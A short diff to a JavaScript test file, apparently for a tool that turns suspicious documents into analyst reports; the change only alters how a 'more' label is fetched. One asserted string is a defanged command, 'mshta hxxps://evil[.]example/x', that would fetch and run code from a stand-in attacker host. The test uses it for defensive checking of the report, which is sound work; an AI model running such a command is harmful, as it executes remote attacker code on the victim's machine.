@@ -369,7 +369,7 @@ test("the copied report has what an analyst decides by: the gravest first, lines
   has("mshta hxxps://evil[.]example/x");
   has("[VBA/Module1 2 行目]");
   has(`${"y".repeat(2000)}…`);
-  has(words.text(["report", "more"], { n: "7" }));
+  has(words.page("acts-more", { n: "7" }));
   has("画像の中の QR コード: 調べていません");
   assert.ok(!text.includes("メールの差出人"));
   // Long lists say how much they leave out.
